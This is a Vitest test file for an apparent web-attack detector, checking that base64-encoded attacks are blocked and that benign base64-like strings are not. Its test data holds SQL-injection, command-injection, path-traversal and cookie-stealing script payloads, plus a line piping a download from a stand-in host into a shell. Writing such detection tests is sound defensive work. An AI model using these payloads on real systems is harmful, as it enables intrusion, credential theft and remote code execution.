// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks are written like that
import { describe, expect, it } from 'vitest'
import { createInProcessJudge } from '../../bench/detection/in-process.ts'
import { type Place, places, requestWith } from '../../bench/detection/requests.ts'

const judge = await createInProcessJudge(80)
const base64 = (text: string) => Buffer.from(text).toString('base64')
const inQuery = (text: string) => requestWith(text, 'query')

function missedAt(value: string, among: readonly Place[] = places): readonly Place[] {
  return among.filter((place) => !(judge.judge(requestWith(value, place)) as { blocked: boolean }).blocked)
}

describe('an attack in base64 is refused', () => {
  it.each(["' or 1=1--", ';cat /etc/passwd', 'a;id', '../../../etc/passwd', "1' or 1=1#"])('short: %j', (attack) => {
    expect(missedAt(base64(attack))).toEqual([])
  })

  const attack = base64("1' union select login,password from users-- ")
  it.each([
    `x ${attack} y`,
    `token=${attack}`,
    `v1:${attack}:0a1b`,
    `{${attack}}`,
    `"${attack}"`,
    `data:text/html;base64,${base64('<script>alert(document.cookie)</script>')}`,
    `echo ${base64('curl http://evil.example/x | sh')} | base64 -d`,
  ])('inside of a longer text: %j', (value) => {
    // Names are not opened.
    const among = places.filter((place) => place !== 'name')
    expect(missedAt(value, among)).toEqual([])
  })
})

describe('what is no base64 of a text', () => {
  it.each([
    'password',
    'circumstantially',
    'internationalisation of resources',
    '/usr/share/dict',
    '3f9c2b71d04e8a11',
    'dGhpcyBpcyBhIHRleHQ=',
    'GA1.2.1234567890.1714567890',
    'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=',
    'Bearer 4f1d/2ab+9c0e71b2d3e4f5a6978/0a1b2c3d',
  ])('is nothing: %j', async (value) => {
    expect(await judge.judge(inQuery(value))).toMatchObject({ score: 0 })
  })

  it('is looked at as it is', async () => {
    expect(await judge.judge(inQuery('/etc/passwd'))).toMatchObject({ blocked: true })
  })
})
